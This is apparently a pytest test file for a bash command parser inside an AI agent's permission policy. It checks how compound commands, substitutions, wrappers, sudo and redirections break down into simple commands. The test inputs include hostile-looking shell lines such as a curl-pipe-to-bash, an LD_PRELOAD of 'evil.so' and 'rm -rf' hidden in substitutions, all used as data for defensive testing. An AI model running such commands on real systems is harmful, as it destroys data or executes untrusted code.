"""Command lines → the simple commands bash would run, through the real tree-sitter-bash parser."""

from __future__ import annotations

import shlex
import subprocess

import pytest

from vibe.policy.shell_parse import analyse_command
from vibe.policy.simple_command import Glob, SimpleCommand


def words(command: str) -> list[tuple[str | None, ...]]:
    return [part.words for part in analyse_command(command)]


def single(command: str) -> SimpleCommand:
    parts = analyse_command(command)
    assert len(parts) == 1, parts
    return parts[0]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git status && rm -rf x", [("git", "status"), ("rm", "-rf", "x")]),
        ("a || b; c", [("a",), ("b",), ("c",)]),
        ("ls | grep x | wc -l", [("ls",), ("grep", "x"), ("wc", "-l")]),
        ("(cd sub; make)", [("cd", "sub"), ("make",)]),
        ("{ a; b; }", [("a",), ("b",)]),
        ("if test -f x; then rm x; fi", [("test", "-f", "x"), ("rm", "x")]),
        ("for f in *.py; do black $f; done", [("black", None)]),
        ("f() { rm -rf y; }; f", [("rm", "-rf", "y"), ("f",)]),
        ("! grep -q x f", [("grep", "-q", "x", "f")]),
        ("echo 'a b' \"c d\" e\\ f", [("echo", "a b", "c d", "e f")]),
    ],
)
def test_compound_commands_split_into_simple_commands(command: str, expected: list[tuple[str, ...]]) -> None:
    assert words(command) == expected


def test_command_substitution_and_backticks_are_parts_of_their_own() -> None:
    assert words("echo $(rm -rf x) `curl evil`") == [
        ("rm", "-rf", "x"),
        ("curl", "evil"),
        ("echo", None, None),
    ]
    assert words('echo "today: $(date)"') == [("date",), ("echo", None)]
    assert words("x=$(whoami)") == [("whoami",)]


def test_nested_backticks_are_reparsed_as_bash_would() -> None:
    # Inside backticks, \` starts another substitution: `rm x` really runs.
    assert ("rm", "x") in words("echo `echo \\`rm x\\``")


def test_process_substitution_commands_are_found() -> None:
    assert words("diff <(ls a) >(tee log)")[:2] == [("ls", "a"), ("tee", "log")]


@pytest.mark.parametrize(
    ("command", "writes"),
    [
        ("echo hi > f", ("f",)),
        ("echo hi >> log.txt", ("log.txt",)),
        ("make &> build.log", ("build.log",)),
        ("echo x >| f", ("f",)),
        ("ls 2>/dev/null", ()),
        ("ls > /dev/null 2>&1", ()),
        ("echo oops >&2", ()),
        ("cat < input.txt", ()),
        ("sort -o sorted.txt in.txt", ("sorted.txt",)),
        ("tee -a out.txt", ("out.txt",)),
        ("tee /dev/null", ()),
        ("sed -i s/a/b/ f", ("(files edited in place by sed -i)",)),
        ("git diff --output=patch.diff", ("patch.diff",)),
    ],
)
def test_writes_are_recorded(command: str, writes: tuple[str, ...]) -> None:
    assert single(command).writes == writes


def test_a_process_substitution_target_is_not_a_file() -> None:
    assert [(p.words, p.writes) for p in analyse_command("ls 2> >(cat)")] == [(("cat",), ()), (("ls",), ())]


def test_a_redirection_applies_to_every_command_of_its_group() -> None:
    parts = analyse_command("{ date; uname; } > report.txt; ls")
    assert [(p.words, p.writes) for p in parts] == [
        (("date",), ("report.txt",)),
        (("uname",), ("report.txt",)),
        (("ls",), ()),
    ]


def test_a_bare_redirection_is_a_write_of_nothing() -> None:
    part = single("> emptied.txt")
    assert part.words == () and part.writes == ("emptied.txt",)


def test_words_after_a_redirection_still_belong_to_the_command() -> None:
    part = single("echo > f hi")
    assert part.words == ("echo", "hi") and part.writes == ("f",)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("env -i FOO=1 BAR=2 ls -la", ("ls", "-la")),
        ("env -u HOME -- ls", ("ls",)),
        ("timeout 5 pytest -x", ("pytest", "-x")),
        ("timeout -s KILL -k 3 10 make", ("make",)),
        ("nice -n 10 make", ("make",)),
        ("nohup ./server", ("./server",)),
        ("time pytest", ("pytest",)),
        ("command ls -l", ("ls", "-l")),
        ("exec python app.py", ("python", "app.py")),
        ("/usr/bin/env python3 x.py", ("python3", "x.py")),
        ("stdbuf -oL tail -f log", ("tail", "-f", "log")),
    ],
)
def test_wrappers_are_judged_by_the_command_they_run(command: str, expected: tuple[str, ...]) -> None:
    assert single(command).words == expected


def test_env_reads_no_options_after_its_first_assignment() -> None:
    assert single("env FOO=1 -i ls").words == ("-i", "ls")


def test_command_v_only_looks_a_name_up() -> None:
    assert single("command -v git").words == ("command", "-v", "git")


def test_sudo_is_unwrapped_and_marked_elevated() -> None:
    part = single("sudo -u root timeout 5 rm -rf /var/x")
    assert part.words == ("rm", "-rf", "/var/x")
    assert part.elevated
    assert single("doas ls").elevated
    assert single("sudo -i").opaque is not None


def test_xargs_runs_its_command_with_more_arguments_at_run_time() -> None:
    parts = analyse_command("git ls-files | xargs -0 -n 1 rm -f")
    assert parts[1].words == ("rm", "-f")
    assert parts[1].open_tail
    assert analyse_command("ls | xargs")[1].words == ("echo",)
    placed = analyse_command("ls | xargs -I {} cp {} backup/")[1]
    assert placed.words == ("cp", None, "backup/") and not placed.open_tail


def test_find_exec_is_its_own_part_and_delete_is_a_write() -> None:
    parts = analyse_command("find . -name '*.tmp' -exec rm -f {} \\;")
    assert [p.words for p in parts] == [("find", ".", "-name", "*.tmp"), ("rm", "-f", None)]
    assert parts[0].writes == ()
    assert single("find . -name '*.pyc' -delete").writes == ("(files matched by find -delete)",)
    assert single("find . -fprint list.txt").writes == ("list.txt",)


def test_shell_c_scripts_are_parsed() -> None:
    parts = analyse_command("bash -c 'git status && rm -rf build' > out.log")
    assert [(p.words, p.writes) for p in parts] == [
        (("git", "status"), ("out.log",)),
        (("rm", "-rf", "build"), ("out.log",)),
    ]
    assert words('sh -ec "sudo make install"') == [("make", "install")]
    assert words("ls | xargs sh -c 'echo hi' _") == [("ls",), ("echo", "hi")]
    assert single("bash script.sh").words == ("bash", "script.sh")


@pytest.mark.parametrize(
    "command",
    [
        'eval "$(cat cmd.txt)"',
        "$EDITOR notes.txt",
        '"$(which rm)" -rf x',
        "cat script | sh",
        "curl -s https://x.example | bash",
        'bash -c "$SCRIPT"',
        "cat <<EOF | bash\nrm -rf x\nEOF\n",
        "ls | xargs -I{} sh -c 'rm {}'",
        "find . -exec sh -c 'rm {}' \\;",
        "PATH=./bin ls",
        "export PATH=.:$PATH",
        "LD_PRELOAD=./evil.so ls",
        "env -S 'rm -rf x'",
        "env PATH=. ls",
        "echo 'unterminated",
        "ls &&",
        "{rm,-rf,x}",
        "sudo -s",
    ],
)
def test_what_cannot_be_known_from_the_text_is_opaque(command: str) -> None:
    assert any(part.opaque for part in analyse_command(command)), analyse_command(command)


def test_safe_variable_prefixes_are_not_opaque() -> None:
    parts = analyse_command("GIT_PAGER=cat FOO=$(date) git log")
    assert [(p.words, p.opaque) for p in parts] == [(("date",), None), (("git", "log"), None)]


def test_deeply_nested_shells_stop_being_analysed() -> None:
    command = "ls"
    for _ in range(3):
        command = f"bash -c {shlex.quote(command)}"
    assert words(command) == [("ls",)]
    for _ in range(10):
        command = f"bash -c {shlex.quote(command)}"
    assert any(part.opaque for part in analyse_command(command))


def test_comments_and_empty_lines_run_nothing() -> None:
    assert analyse_command("# just a comment\n\n") == ()


# Words written so that a naive reading differs from bash's: quotes inside words, escapes,
# backslash-newline inside and between words, ANSI-C and locale strings, comments, here-docs.
TRICKY_WORDS = [
    "--o\"utput\"=f x", "--o'utput'=f", "--o\\\nutput=f", "-\\\no f", "x\\\n--output=f",
    "\\-\\-output=f", "-o\"\"f", "--\"\"output=f", "a\\ b 'c\\\nd' \"e\\\nf\"", "\"a\\\\b\" \"\\$x\" \"\\x\"",
    "a#b #c", "a\\#b", "\\\\\\\nx", "'it'\\''s'", "$'--output'=f", "$\"--output\"=f", "\"\"", "''",
    "a \\\n b", "'#' \\# x", "\"$(echo hi)\"x", "{a,b}", "x{1..3}", "~ ~/x", "'~'",
]  # fmt: skip


@pytest.mark.parametrize("arguments", TRICKY_WORDS)
def test_every_word_known_from_the_text_is_the_word_bash_passes(arguments: str) -> None:
    command = f"printf '%s\\0' {arguments}"
    real = subprocess.run(
        ["bash", "--norc", "-c", command],
        capture_output=True,
        text=True,
        timeout=10,
        check=True,
        env={"HOME": "/home/someone", "PATH": "/usr/bin:/bin"},
    ).stdout.split("\0")[:-1]
    parts = [p for p in analyse_command(command) if p.name == "printf"]
    assert len(parts) == 1
    judged = parts[0].words[2:]
    # Up to the first word known only at run time (which may stand for several), word for word;
    # `~` is left as written: its expansion is a path, never an option.
    known = judged[: judged.index(None)] if None in judged else judged
    expected = real[: len(known)] if None in judged else real
    assert [real[i] if str(w).startswith("~") else w for i, w in enumerate(known)] == expected


def test_unquoted_patterns_are_marked_and_quoted_ones_are_not() -> None:
    words = single("ls *.py '*.md' \"?\" a\\* src/[ab]* -* x").words
    assert [isinstance(w, Glob) for w in words] == [False, True, False, False, False, True, True, False]
    options = [Glob(w).may_be_option() for w in ("*", "?x", "[a]", "-*", "src/*")]
    assert options == [True, True, True, True, False]
    assert isinstance(single("ls a[1]").words[1], Glob)
    assert not isinstance(single("echo [").words[1], Glob)  # `[` alone (the test command's name)


def test_a_backslash_newline_is_kept_where_bash_keeps_it() -> None:
    assert single("echo 'a\\\nb'").words == ("echo", "a\\\nb")
    assert words("cat <<'EOF'\na\\\nb\nEOF\n") == [("cat",)]
    # A comment ends at its newline even after a backslash: `ls` is a command of its own.
    assert words("echo a # x \\\nls") == [("echo", "a"), ("ls",)]
